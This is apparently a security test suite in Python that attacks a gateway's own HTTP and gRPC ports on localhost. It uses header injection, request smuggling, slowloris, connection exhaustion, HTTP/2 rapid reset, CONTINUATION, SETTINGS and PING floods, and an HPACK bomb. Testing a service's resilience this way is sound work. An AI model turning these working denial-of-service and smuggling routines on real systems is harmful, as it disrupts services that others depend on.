"""Attacks on the gateway's two ports, each as somebody without any credentials can start it.

An attack returns what the gateway answered to it, in a few words; it takes no longer than its own timeouts.
"""

from __future__ import annotations

import asyncio
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from dataclasses import dataclass
from typing import TYPE_CHECKING

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, Frame, HeadersFrame, PingFrame, SettingsFrame

from tests.doors.wire import Http1, connect, request_bytes

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

_NAMES = {code.value[0]: code.name for code in grpc.StatusCode}
EXECUTE = "/n8ngateway.v1.ExecutionService/Execute"
BODY = b'{"data": {}}'
JSON = {"content-type": "application/json"}
HTTP_SECONDS = 2
"""For a head, and for a body, as the attacked gateway is told."""
_STILL_THERE = b"the last"
_ANSWER_SECONDS = 60
"""More than a busy machine takes."""
CONNECTIONS = 300
"""As many as the attacked gateway takes on its HTTP port."""


@dataclass(frozen=True)
class Target:
    """The ports of a gateway."""

    http_port: int
    grpc_port: int


Attack = Callable[[Target], Awaitable[str]]


def _counted(answers: Iterable[str]) -> str:
    """`400` or, where they differ, `400 (3), 431 (1)`."""
    counts = Counter(answers)
    if len(counts) == 1:
        return next(iter(counts))
    return ", ".join(f"{answer} ({count})" for answer, count in sorted(counts.items()))


async def _sent(target: Target, request: bytes) -> str:
    """The status of the answer to bytes on a connection of their own, and whether it was closed then."""
    async with connect(target.http_port) as connection:
        connection.writer.write(request)
        answer = await connection.answer()
        closed = answer.headers.get("connection") == "close" and await connection.closed()
        return f"{answer.status}{', closed' if closed else ''}"


async def injected_headers(target: Target) -> str:
    """CR, LF, NUL and folded lines in header values."""
    values = [b"a\r\n b", b"a\nx-tenant-id: b", b"a\rb", b"a\0b", b"a\r\n\tb", b"a\x01b", b"a\x7fb"]
    return _counted(
        [await _sent(target, request_bytes("GET", "/api/v1/workflows", {"x-a": value})) for value in values]
    )


async def repeated_authorization(target: Target) -> str:
    """Two Authorization headers, of which two servers could each believe another."""
    lines = "Bearer a\r\nauthorization: Bearer b"
    answers = [
        await _sent(target, request_bytes("POST", path, headers | {"authorization": lines}, BODY))
        for path, headers in (
            ("/api/v1/execute", JSON),
            (EXECUTE, JSON | {"connect-protocol-version": "1"}),
        )
    ]
    return _counted(answers)


async def large_tokens(target: Target) -> str:
    """Tokens of 60 KB, and one of 64 KB, 100 times over."""
    answers = []
    async with connect(target.http_port) as connection:
        for _ in range(100):
            token = {"authorization": f"Bearer {'x' * 60_000}"}
            answers.append(str((await connection.request("GET", "/api/v1/workflows", token)).status))
        connection.writer.write(
            request_bytes("GET", "/api/v1/workflows", {"authorization": f"Bearer {'x' * (64 << 10)}"})
        )
        answers.append(str((await connection.answer()).status))
    return _counted(answers)


async def forged_addresses(target: Target) -> str:
    """3,000 calls that each tell of another address of their own."""
    statuses = Counter[str]()
    async with connect(target.http_port) as connection:
        for start in range(0, 3_000, 60):
            for number in range(start, start + 60):
                address = f"198.51.{number // 256}.{number % 256}"
                forged = {"x-forwarded-for": address, "forwarded": f"for={address}"}
                connection.writer.write(request_bytes("GET", "/api/v1/workflows", forged))
            for _ in range(60):
                statuses[str((await connection.answer()).status)] += 1
    return _counted(statuses.elements())


async def smuggled_requests(target: Target) -> str:
    """Requests that end at one place for one server and at another for the next."""
    length, chunked = b"Content-Length: 12", b"Transfer-Encoding: chunked"
    chunks = b"c\r\n" + BODY + b"\r\n0\r\n\r\n"
    heads = [
        (length + b"\r\n" + chunked, chunks),
        (chunked + b"\r\n" + length, chunks),
        (length + b"\r\nContent-Length: 5", BODY),
        (length + b", 12", BODY),
        (chunked + b", identity", chunks),
        (b"Transfer-Encoding: xchunked", chunks),
        (b"Transfer-Encoding : chunked", chunks),
        (b"Transfer-Encoding: \x0bchunked", chunks),
        (b"Transfer-Encoding: gzip, chunked", chunks),
        (chunked, chunks.replace(b"\r\n", b";a\n", 1)),
        (chunked, b"0x" + chunks),
        (chunked, b"c;" + b"a" * 100_000),
        (chunked, chunks[:-2] + b"x-trailer: " + b"a" * 100_000),
    ]
    start = b"POST /api/v1/execute HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    smuggled = request_bytes("GET", "/api/v1/health/live", {})
    answers = [await _sent(target, start + head + b"\r\n\r\n" + body + smuggled) for head, body in heads]
    answers.append(await _sent(target, (start + length + b"\r\n\r\n" + BODY).replace(b"\r\n", b"\n")))
    return _counted(answers)


async def slow_heads(target: Target) -> str:
    """200 connections that each send a header field every tenth of a second, for ever (slowloris)."""
    start = b"GET /api/v1/workflows HTTP/1.1\r\nHost: localhost\r\n"
    return await _dripping(target, start, b"x-slow: 1\r\n")


async def slow_bodies(target: Target) -> str:
    """200 connections that each send a byte of a body every tenth of a second."""
    start = b"POST /api/v1/execute HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    return await _dripping(target, start + b"Content-Length: 4000000\r\n\r\n", b" ")


async def _dripping(target: Target, start: bytes, drop: bytes) -> str:
    async def hold() -> str:
        async with connect(target.http_port) as connection:
            connection.writer.write(start)
            dripping = asyncio.create_task(_drip(connection, drop))
            try:
                answer = await connection.answer()
                return f"{answer.status}, closed" if await connection.closed() else str(answer.status)
            finally:
                dripping.cancel()

    return _counted(await asyncio.gather(*(hold() for _ in range(200))))


async def _drip(connection: Http1, drop: bytes) -> None:
    while not connection.writer.is_closing():
        connection.writer.write(drop)
        await asyncio.sleep(0.1)


async def many_connections(target: Target) -> str:
    """Twice as many connections as there may be, all silent."""
    async with AsyncExitStack() as stack:
        opened = [await stack.enter_async_context(connect(target.http_port)) for _ in range(2 * CONNECTIONS)]

        async def outcome(connection: Http1) -> str:
            with suppress(asyncio.IncompleteReadError, ConnectionError):
                return str((await connection.answer()).status)
            return "closed"

        return _counted(await asyncio.gather(*map(outcome, opened)))


class Http2Client:
    """An HTTP/2 connection to the gRPC port, by hyper-h2; frames that it would not send go out as bytes."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        config = h2.config.H2Configuration(client_side=True, validate_outbound_headers=False)
        self.h2 = h2.connection.H2Connection(config)
        self.h2.initiate_connection()
        self.ended = ""
        self.reset: Counter[str] = Counter()
        self._answered = asyncio.Event()
        self._reading = asyncio.create_task(self._read())

    async def flush(self) -> bool:
        """Send what is to be sent. False when the server has ended the connection."""
        with suppress(ConnectionError):
            self.writer.write(self.h2.data_to_send())
            await self.writer.drain()
        await asyncio.sleep(0)
        return not self._reading.done() and not self.writer.is_closing()

    async def send(self, frames: Iterable[Frame]) -> bool:
        """Send frames as they are."""
        with suppress(ConnectionError):
            self.writer.write(b"".join(frame.serialize() for frame in frames))
            await self.writer.drain()
        return await self.flush()

    def call(self) -> HeadersFrame:
        """The head of a call on the first stream, which the other side has yet to get."""
        self.h2.send_headers(1, CALL)
        data = memoryview(self.h2.data_to_send())
        while True:
            frame, length = Frame.parse_frame_header(data[:9])
            if isinstance(frame, HeadersFrame):
                frame.parse_body(data[9 : 9 + length])
                return frame
            data = data[9 + length :]

    async def outcome(self) -> str:
        """How the server has ended the connection; `goes on` when it still answers a PING."""
        await self.send([PingFrame(0, opaque_data=_STILL_THERE)])
        return await self.answer()

    async def answer(self) -> str:
        """What comes first: the status of the call, the connection's end, or the answer to `outcome`."""
        async with asyncio.timeout(_ANSWER_SECONDS):
            await self._answered.wait()
        return self.ended or "goes on"

    async def close(self) -> None:
        self._reading.cancel()
        await asyncio.gather(self._reading, return_exceptions=True)
        self.writer.close()

    async def _read(self) -> None:
        # To h2 it is an error that the server's last frames come after its GOAWAY.
        with suppress(ConnectionError, h2.exceptions.ProtocolError):
            while data := await self.reader.read(65536):
                for event in self.h2.receive_data(data):
                    self._note(event)
        self.ended = self.ended or "closed"
        self._answered.set()

    def _note(self, event: object) -> None:
        if isinstance(event, h2.events.ConnectionTerminated):
            self.ended = f"GOAWAY {h2.errors.ErrorCodes(event.error_code or 0).name}"
        elif isinstance(event, h2.events.StreamReset):
            self.reset[h2.errors.ErrorCodes(event.error_code or 0).name] += 1
        elif isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
            status = dict(event.headers or ()).get(b"grpc-status")
            if status is not None:
                self.ended = _NAMES[int(status)]
                self._answered.set()
        elif isinstance(event, h2.events.PingAckReceived) and event.ping_data == _STILL_THERE:
            self._answered.set()


@asynccontextmanager
async def http2(target: Target) -> AsyncIterator[Http2Client]:
    client = Http2Client(*await asyncio.open_connection("127.0.0.1", target.grpc_port))
    await client.flush()
    try:
        yield client
    finally:
        await client.close()


CALL = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", EXECUTE),
    (":authority", "localhost"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


async def rapid_reset(target: Target) -> str:
    """20,000 calls, each cancelled at once (CVE-2023-44487)."""
    async with http2(target) as client:
        for _ in range(200):
            for _ in range(100):
                stream = client.h2.get_next_available_stream_id()
                client.h2.send_headers(stream, CALL)
                client.h2.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
            if not await client.flush():
                break
        return await client.outcome()


async def open_streams(target: Target) -> str:
    """5,000 calls on one connection that never send their message."""
    async with http2(target) as client:
        limit = 0
        while not limit:
            await asyncio.sleep(0.01)
            limit = client.h2.remote_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS, 0)
        client.h2.remote_settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = 1 << 30
        client.h2.remote_settings.acknowledge()
        for _ in range(50):
            for _ in range(100):
                client.h2.send_headers(client.h2.get_next_available_stream_id(), CALL)
            if not await client.flush():
                break
        ended = await client.outcome()
        refused = sum(client.reset.values())
        return f"{ended}, refused beyond {limit}" if refused else f"{ended} at {limit}"


async def settings_flood(target: Target) -> str:
    """50,000 SETTINGS frames."""
    return await _flood(target, SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}))


async def ping_flood(target: Target) -> str:
    """50,000 PING frames."""
    return await _flood(target, PingFrame(0, opaque_data=b"12345678"))


async def _flood(target: Target, frame: Frame) -> str:
    async with http2(target) as client:
        for _ in range(500):
            if not await client.send([frame] * 100):
                break
        return await client.outcome()


async def endless_headers(target: Target) -> str:
    """A header block that never ends, 64 MB of it (CONTINUATION flood)."""
    piece = b"\x00\x03x-a\x7f\x80\x7e" + b"v" * 16_255  # a literal field without indexing
    async with http2(target) as client:
        first = client.call()
        first.flags.discard("END_HEADERS")
        if await client.send([first]):
            for _ in range(4096):
                if not await client.send([ContinuationFrame(1, data=piece)]):
                    break
        return await client.answer()


async def header_bomb(target: Target) -> str:
    """20 heads of 16 KB that unpack to 46 MB each: one large field of HPACK's table, 12,000 times."""
    outcomes = []
    for _ in range(20):
        async with http2(target) as client:
            bomb = Encoder().encode([("x-bomb", "b" * 3_900)], huffman=False) + b"\xbe" * 12_000
            await client.send([HeadersFrame(1, data=client.call().data + bomb, flags=["END_HEADERS"])])
            outcomes.append(await client.answer())
    return _counted(outcomes)


ATTACKS: dict[str, Attack] = {
    "header injection (CR, LF, NUL, folding)": injected_headers,
    "two Authorization headers": repeated_authorization,
    "tokens of 60 and 64 KB, 101 calls": large_tokens,
    "3,000 forged X-Forwarded-For and Forwarded": forged_addresses,
    "request smuggling, 14 shapes": smuggled_requests,
    "slowloris: 200 slow heads": slow_heads,
    "slowloris: 200 slow bodies": slow_bodies,
    "600 connections where 300 may be": many_connections,
    "HTTP/2 rapid reset, 20,000 streams": rapid_reset,
    "HTTP/2, 5,000 streams without a message": open_streams,
    "HTTP/2 SETTINGS flood, 50,000 frames": settings_flood,
    "HTTP/2 PING flood, 50,000 frames": ping_flood,
    "HTTP/2 CONTINUATION flood, 64 MB": endless_headers,
    "HPACK bomb, 20 of 46 MB": header_bomb,
}
